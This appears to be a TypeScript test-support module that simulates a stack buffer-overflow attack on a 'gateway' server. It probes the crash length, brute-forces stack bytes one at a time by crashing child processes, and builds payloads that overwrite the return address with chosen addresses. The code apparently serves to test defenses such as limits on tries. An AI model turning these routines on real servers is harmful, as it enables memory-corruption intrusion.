import type { SeededRandom } from '#test/support/seeded-random.ts';
import type { Gateway } from './gateway.ts';

const FILLER = 0x41;
const WORD = 8;
const MAX_OVERFLOW = 512;

/** Returns a request that overwrites the return address and the words after it on the stack. */
export function returnTo({ frame }: Gateway, ...addresses: readonly bigint[]): Buffer {
  const words = Buffer.alloc(addresses.length * WORD);
  addresses.forEach((address, i) => {
    words.writeBigUInt64LE(address, i * WORD);
  });
  return Buffer.concat([Buffer.alloc(frame + WORD, FILLER), words]);
}

/**
 * Returns the number of bytes that fit before the server crashes. Sends longer and longer requests, as an attacker
 * does.
 */
export async function findLimit(gateway: Gateway, from: number): Promise<number> {
  for (let length = from; length < from + MAX_OVERFLOW; length += 1) {
    if (!(await gateway.send(Buffer.alloc(length, FILLER)))) return length - 1;
  }
  throw new Error(`the gateway survives ${from + MAX_OVERFLOW} bytes: it has no overflow`);
}

/**
 * Reads bytes of the stack behind `limit` one at a time: each wrong guess crashes a child. Resolves to the number of
 * tries. Stops after `maxTries`.
 */
export async function readStack(
  gateway: Gateway,
  limit: number,
  { bytes, maxTries, random, pause }: ReadStackOptions,
): Promise<number> {
  let known = Buffer.alloc(0);
  let tries = 0;
  for (let position = 0; position < bytes; position += 1) {
    for (const byte of shuffled(256, random)) {
      if (tries >= maxTries) return tries;
      await pause(tries);
      tries += 1;
      const guess = Buffer.concat([known, Buffer.from([byte])]);
      if (!(await gateway.send(Buffer.concat([Buffer.alloc(limit, FILLER), guess])))) continue;
      known = guess;
      break;
    }
  }
  return tries;
}

export interface ReadStackOptions {
  readonly bytes: number;
  readonly maxTries: number;
  readonly random: SeededRandom;
  /** Waits before each try. */
  readonly pause: (tries: number) => Promise<void>;
}

/** Returns the numbers below `count` in random order. */
export function shuffled(count: number, random: SeededRandom): number[] {
  const numbers = Array.from({ length: count }, (_, i) => i);
  for (let i = count - 1; i > 0; i -= 1) {
    const j = random.between(0, i);
    [numbers[i], numbers[j]] = [numbers[j] as number, numbers[i] as number];
  }
  return numbers;
}
